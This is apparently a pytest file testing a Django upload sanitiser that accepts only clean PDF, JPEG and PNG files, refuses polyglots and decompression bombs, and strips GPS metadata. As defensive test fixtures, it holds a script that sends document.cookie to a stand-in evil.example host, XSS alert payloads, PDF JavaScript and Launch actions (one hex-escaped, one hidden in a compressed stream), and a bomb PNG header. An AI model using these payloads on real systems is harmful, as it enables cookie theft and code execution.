"""Uploaded files: only real PDF, JPEG and PNG; no polyglots, no active PDF content, no
bombs; images come back without metadata (EXIF, GPS) and the right way up."""

import io
import struct
import zlib
from collections.abc import Iterator

import pytest
from django.test import override_settings
from django.utils import translation
from PIL import Image

from sipakatau.lib.uploads import UploadError, clean_upload

GPS_IFD = 0x8825
ORIENTATION = 0x0112
MAKE = 0x010F


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    with translation.override("en"):
        yield


def _image(fmt: str, size: tuple[int, int] = (60, 40), exif: Image.Exif | None = None) -> bytes:
    image = Image.new("RGB", size, (30, 120, 200))
    # A marker in the top-left corner, to see which way up the picture comes back.
    for x in range(10):
        for y in range(10):
            image.putpixel((x, y), (255, 0, 0))
    out = io.BytesIO()
    image.save(out, format=fmt, **({"exif": exif} if exif is not None else {}))
    return out.getvalue()


def _gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[MAKE] = "CanaryPhone"
    exif[ORIENTATION] = orientation
    # Parepare: 4° 0' 49" S, 119° 37' 44" E
    exif[GPS_IFD] = {1: "S", 2: (4.0, 0.0, 49.0), 3: "E", 4: (119.0, 37.0, 44.0)}
    return exif


def _pdf(body: bytes = b"") -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        + body
        + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_header_only(width: int, height: int) -> bytes:
    """A tiny file that claims to be a huge picture (a decompression bomb's header)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + _png_chunk(b"IEND", b"")
    )


def _refused(filename: str, data: bytes) -> str:
    with pytest.raises(UploadError) as error:
        clean_upload(filename=filename, data=data)
    return str(error.value)


# --- accepted ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "fmt", "content_type"),
    [
        ("foto.jpg", "JPEG", "image/jpeg"),
        ("FOTO.JPEG", "JPEG", "image/jpeg"),
        ("form.png", "PNG", "image/png"),
    ],
)
def test_real_pictures_are_accepted_and_re_encoded(
    filename: str, fmt: str, content_type: str
) -> None:
    cleaned = clean_upload(filename=filename, data=_image(fmt))

    assert cleaned.content_type == content_type
    with Image.open(io.BytesIO(cleaned.data)) as image:
        assert image.format == fmt
        assert image.size == (60, 40)


def test_a_plain_pdf_is_accepted_unchanged() -> None:
    data = _pdf()

    cleaned = clean_upload(filename="surat.pdf", data=data)

    assert (cleaned.content_type, cleaned.data) == ("application/pdf", data)


def test_a_phone_photo_with_extra_pictures_inside_is_accepted_as_its_first_picture() -> None:
    # Many phones save JPEGs with a second picture (MPO); Pillow calls them "MPO".
    out = io.BytesIO()
    first, second = Image.new("RGB", (40, 30), "red"), Image.new("RGB", (40, 30), "blue")
    first.save(out, format="MPO", save_all=True, append_images=[second])

    cleaned = clean_upload(filename="foto.jpg", data=out.getvalue())

    with Image.open(io.BytesIO(cleaned.data)) as image:
        assert image.format == "JPEG"
        assert getattr(image, "n_frames", 1) == 1


# --- wrong type -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filename", ["laporan.docx", "run.exe", "page.html", "picture.gif", "noextension", "x.svg"]
)
def test_other_kinds_of_file_are_refused(filename: str) -> None:
    assert "Only PDF, JPG and PNG" in _refused(filename, _image("PNG"))


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("foto.jpg", _image("PNG")),
        ("foto.png", _image("JPEG")),
        ("surat.pdf", _image("JPEG")),
        ("foto.jpg", _pdf()),
        ("foto.jpg", b"<html><script>alert(1)</script></html>"),
        ("foto.png", _image("GIF")),
    ],
)
def test_content_that_does_not_match_its_name_is_refused(filename: str, data: bytes) -> None:
    assert "does not match" in _refused(filename, data)


# --- polyglots --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        _pdf(),
        b"<html><body>hi</body></html>",
        b"<script>fetch('https://evil.example/'+document.cookie)</script>",
        b"< svg onload=alert(1)>",
    ],
    ids=["pdf", "html", "script", "svg"],
)
def test_a_picture_with_another_file_appended_is_refused(payload: bytes) -> None:
    assert "another file" in _refused("foto.jpg", _image("JPEG") + payload)
    assert "another file" in _refused("foto.png", _image("PNG") + payload)


def test_a_picture_with_a_script_inside_its_metadata_is_refused() -> None:
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"  # ImageDescription

    assert "another file" in _refused("foto.jpg", _image("JPEG", exif=exif))


def test_a_pdf_with_data_after_its_end_is_refused() -> None:
    assert "another file" in _refused("surat.pdf", _pdf() + b"PK\x03\x04 zipped payload")


@pytest.mark.parametrize(
    "active",
    [
        b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n",
        b"3 0 obj\n<< /OpenAction 4 0 R >>\nendobj\n",
        b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n",
        b"3 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n",
        # the same name with a letter written as #xx, which PDF readers decode
        b"3 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n",
    ],
    ids=["javascript", "open-action", "launch", "embedded-file", "hex-escaped-javascript"],
)
def test_a_pdf_with_active_content_is_refused(active: bytes) -> None:
    assert "active content" in _refused("surat.pdf", _pdf(active))


def test_a_pdf_hiding_javascript_in_a_compressed_object_stream_is_refused() -> None:
    hidden = zlib.compress(b"3 0 << /S /JavaScript /JS (app.alert(1)) >>")
    stream = (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(hidden)).encode()
        + b" >>\nstream\n"
        + hidden
        + b"\nendstream\nendobj\n"
    )

    assert "active content" in _refused("surat.pdf", _pdf(stream))


def test_a_pdf_whose_object_stream_cannot_be_read_is_refused() -> None:
    stream = (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 >>\nstream\nnot zlib at all\nendstream\nendobj\n"
    )

    _refused("surat.pdf", _pdf(stream))


def test_a_pdf_without_its_end_marker_is_refused() -> None:
    assert "damaged" in _refused("surat.pdf", b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n")


# --- size and damage --------------------------------------------------------------------


def test_an_empty_file_is_refused() -> None:
    assert "empty" in _refused("foto.jpg", b"")


def test_a_file_over_the_limit_is_refused() -> None:
    data = _image("PNG", size=(200, 200))

    with override_settings(UPLOAD_MAX_BYTES=len(data) - 1):
        message = _refused("foto.png", data)
    with override_settings(UPLOAD_MAX_BYTES=len(data)):
        clean_upload(filename="foto.png", data=data)

    assert "too big" in message
    assert "at most 1 MB" in message  # never "0 MB" for a small limit


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("foto.jpg", _image("JPEG")[:200]),
        ("foto.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 300),
        ("foto.png", _image("PNG")[:60]),
        ("foto.png", b"\x89PNG\r\n\x1a\n" + b"garbage" * 20),
    ],
    ids=["truncated-jpeg", "junk-jpeg", "truncated-png", "junk-png"],
)
def test_a_damaged_picture_is_refused(filename: str, data: bytes) -> None:
    _refused(filename, data)


@pytest.mark.parametrize("size", [(7000, 7000), (20000, 20000), (100000, 100000)])
def test_a_decompression_bomb_is_refused_before_it_is_decoded(size: tuple[int, int]) -> None:
    data = _png_header_only(*size)
    assert len(data) < 200

    assert "too large" in _refused("bomb.png", data)


# --- metadata ---------------------------------------------------------------------------


def test_exif_and_gps_are_stripped_from_a_jpeg() -> None:
    # Given a photo that says where it was taken, and with what
    data = _image("JPEG", exif=_gps_exif())
    with Image.open(io.BytesIO(data)) as original:
        assert original.getexif().get_ifd(GPS_IFD)
    assert b"CanaryPhone" in data

    # when it is uploaded
    cleaned = clean_upload(filename="foto.jpg", data=data).data

    # then no EXIF, no GPS and no camera name are left in the stored bytes
    with Image.open(io.BytesIO(cleaned)) as image:
        assert len(image.getexif()) == 0
        assert not image.getexif().get_ifd(GPS_IFD)
        assert "exif" not in image.info
    assert b"Exif\x00\x00" not in cleaned
    assert b"CanaryPhone" not in cleaned


def test_metadata_is_stripped_from_a_png() -> None:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "CanaryPhone at Jalan Kenari")
    out = io.BytesIO()
    Image.new("RGB", (30, 30), "green").save(out, format="PNG", pnginfo=info, exif=_gps_exif())
    assert b"CanaryPhone" in out.getvalue()

    cleaned = clean_upload(filename="foto.png", data=out.getvalue()).data

    assert b"CanaryPhone" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert len(image.getexif()) == 0
        assert not image.text  # type: ignore[attr-defined]


def test_the_picture_is_turned_the_way_the_camera_meant() -> None:
    # Given a 60x40 photo whose EXIF says "rotate 90° clockwise to view" (orientation 6)
    data = _image("JPEG", exif=_gps_exif(orientation=6))

    cleaned = clean_upload(filename="foto.jpg", data=data).data

    # then the stored picture is 40x60, the red corner now at the top right, and no
    # orientation tag is left to turn it a second time
    with Image.open(io.BytesIO(cleaned)) as image:
        assert image.size == (40, 60)
        red, _green, blue = image.convert("RGB").getpixel((35, 4))  # type: ignore[misc]
        assert red > 200 and blue < 80
        assert ORIENTATION not in image.getexif()
